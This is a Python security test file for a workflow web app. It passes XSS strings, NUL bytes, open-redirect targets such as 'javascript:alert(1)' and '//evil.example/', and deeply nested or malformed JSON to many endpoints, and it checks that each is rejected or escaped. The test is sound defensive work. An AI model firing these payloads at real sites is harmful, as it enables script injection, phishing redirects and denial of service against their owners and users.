    assert "<script>" not in document and "&lt;script&gt;alert(1)&lt;/script&gt;" in document


# ---------------------------------------------------------------------------------------------- 4. the rest
def test_query_strings_other_forms_and_nul_bytes_never_break_a_page(live: LiveApp) -> None:
    office, district = live.client("office"), live.client("district")
    reflected = ["/tasks?q={x}", "/tasks?tab=mine&sort={x}", "/resolutions?q={x}&lead={x}&status={x}&sort={x}",
                 "/resolutions?light={x}&due_from={x}&due_to={x}&meeting={x}&unit={x}&co={x}", "/instances?q={x}",
                 "/instances?process={x}&status={x}", "/notifications?page={x}", "/monitor?unit={x}",
                 "/resolutions?saved={x}", "/meetings?x={x}"]
    for template in reflected:
        for payload in (*XSS, "%", "_", "\\", "'", "x" * 5000):
            r = office.get(template.format(x=requests.utils.quote(payload)))
            assert r.status_code in (200, 400, 404), (template, payload, r.status_code)
            assert_inert(r.text, template, shown=False)
            count("form inputs tried")

    # NUL bytes anywhere in a request are refused up front, on every backend, and nothing is stored
    nul = [("GET", "/tasks?q=a%00b"), ("GET", "/resolutions?q=a%00b"), ("GET", "/instances?q=a%00b"),
           ("GET", "/tasks/a%00b"), ("GET", "/api/tasks/a%00b"), ("GET", "/attachments/a%00b"),
           ("GET", "/meetings/1%00"), ("GET", "/instances/a%00b"), ("GET", "/api/resolutions?lead=a%00b")]
    for method, path in nul:
        r = office.http.request(method, live.url + path, timeout=30)
        assert r.status_code == 400 and "NUL" in r.text, (path, r.status_code)
        count("form inputs tried")
    anonymous = live.client()
    r = anonymous.post("/login", {"username": "office\x00", "password": "demo123"}, token_from="/login")
    assert r.status_code == 400
    r = office.post("/resolutions/filters", {"name": "a\x00b", "query": "q=x"}, token_from="/resolutions")
    assert r.status_code == 400
    r = district.post("/start", {"process_key": "joint_meeting", "start_event": "start_adhoc",
                                 "reason": "汛期\x00救助", "suggested_date": "2026-03-10"}, token_from="/start")
    assert r.status_code == 400
    count("form inputs tried", 3)
    with live.db.sessions() as s:
        assert s.scalar(select(func.count()).select_from(Instance)) == 0
    assert live.client("office").get("/tasks").status_code == 200  # the name was not locked by the attempt

    # other forms: a saved filter's name, an ad-hoc meeting's reason, a colleague to hand over to, redirects
    r = office.post("/resolutions/filters", {"name": XSS[0], "query": "q=" + XSS[1], "share": "office"},
                    token_from="/resolutions")
    assert r.status_code == 302
    assert_inert(office.get(r.headers["Location"].replace(live.url, "")).text, "the saved filter")
    assert_inert(office.get("/resolutions").text, "the ledger with the saved filter's name")
    r = office.post("/resolutions/filters", {"name": "x" * 101, "query": ""}, token_from="/resolutions")
    assert r.status_code == 302
    r = district.post("/start", {"process_key": "joint_meeting", "start_event": "start_adhoc", "reason": XSS[0],
                                 "suggested_date": XSS[1]}, token_from="/start")
    assert r.status_code == 302
    plan = Walkthrough(live.db, live.service, live.clock).task("office", "draft_plan")
    assert_inert(office.get(f"/tasks/{plan.id}").text, "the plan task of an ad-hoc meeting", shown=False)
    office.post(f"/tasks/{plan.id}/claim", token_from=f"/tasks/{plan.id}")
    r = office.post(f"/tasks/{plan.id}/delegate", {"to": XSS[0]}, token_from=f"/tasks/{plan.id}")
    assert r.status_code == 403
    assert_inert(r.text, "refused hand-over", shown=False)
    for target in ("//evil.example/", "https://evil.example/", "javascript:alert(1)", "/\\evil.example"):
        r = office.post("/language", {"lang": "zh", "next": target}, token_from="/tasks")
        assert r.status_code == 302 and not re.match(r"(https?:)?//|javascript:|/\\",
                                                     r.headers["Location"].replace(live.url, "")), target
        r = anonymous.post("/login?next=" + requests.utils.quote(target),
                           {"username": "renshe", "password": "demo123"}, token_from="/login")
        assert r.status_code == 302 and not re.match(r"(https?:)?//|javascript:|/\\",
                                                     r.headers["Location"].replace(live.url, "")), target
        anonymous = live.client()
        count("form inputs tried", 2)
    count("form inputs tried", 5)


def test_designer_bodies_nested_too_deep_or_with_lone_surrogates_are_refused(live_sqlite: LiveApp) -> None:
    """The modeler's JSON endpoints and POST /api/models: a 4xx, never a 500 (RecursionError, UnicodeEncodeError)."""
    live = live_sqlite
    xml = (ROOT / "tests/diagrams/wait_duration.bpmn").read_text(encoding="utf-8")
    broken = json.dumps({"xml": xml.replace("到时处理", "\ud800")})
    designer = live.client("designer")
    designer.get("/designer/")
    headers = {"X-CSRFToken": designer.last_token, "Content-Type": "application/json"}
    for path in ("/designer/check", "/designer/wait_duration/draft", "/designer/wait_duration/deploy"):
        for body in ("[" * 100_000 + "]" * 100_000, broken):
            r = designer.http.post(live.url + path, data=body.encode(), headers=headers, timeout=60)
            assert r.status_code in (200, 400, 422), (path, r.status_code, r.text[:200])
            assert r.status_code != 200 or r.json()["ok"] is False  # /check answers 200 with its problems
            count("form inputs tried")
    api = Api(live, "designer")
    for body, status in (("[" * 100_000, 422), (broken, 422), (json.dumps({"xml": xml, "file_name": "a\x00.bpmn"}), 422),
                         (json.dumps({"xml": xml, "file_name": ["x"]}), 422)):
        r = api.post("/api/models", raw=body)
        assert r.status_code == status, (body[:80], r.status_code, r.text[:200])
        count("form inputs tried")
    with live.db.sessions() as s:
        from engine.models import ProcessModel

        assert s.scalar(select(func.count()).select_from(ProcessModel).where(ProcessModel.key == "wait_duration")) == 0
